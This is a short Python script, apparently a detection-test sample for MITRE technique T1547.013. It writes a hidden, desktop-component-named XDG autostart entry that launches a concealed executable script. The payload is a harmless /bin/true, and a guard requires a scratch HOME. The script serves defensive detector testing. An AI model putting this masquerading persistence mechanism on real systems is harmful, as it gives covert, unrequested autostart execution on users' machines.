# technique: T1547.013
"""Boot or Logon Autostart Execution: XDG Autostart Entries (T1547.013), a
user .desktop file written with pathlib.

Creates ~/.config/autostart/ and writes a .desktop entry named like a
desktop component (`gnome-keyring-ssh.desktop`) whose Exec= runs a
hidden script, with Path.write_text, then makes the script executable
with Path.chmod.

A good detector raises a medium or high alert: a program writes a .desktop
file into an XDG autostart directory.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
from pathlib import Path

home = Path.home()
autostart = home / ".config" / "autostart"
autostart.mkdir(parents=True, exist_ok=True)
script = home / ".local" / "share" / ".keyring-helper"
script.parent.mkdir(parents=True, exist_ok=True)
script.write_text("#!/bin/sh\nexec /bin/true\n")
script.chmod(0o755)
(autostart / "gnome-keyring-ssh.desktop").write_text(
    "[Desktop Entry]\nType=Application\nName=SSH Key Agent\n"
    f"Exec={script}\nHidden=false\nNoDisplay=true\nX-GNOME-Autostart-enabled=true\n")
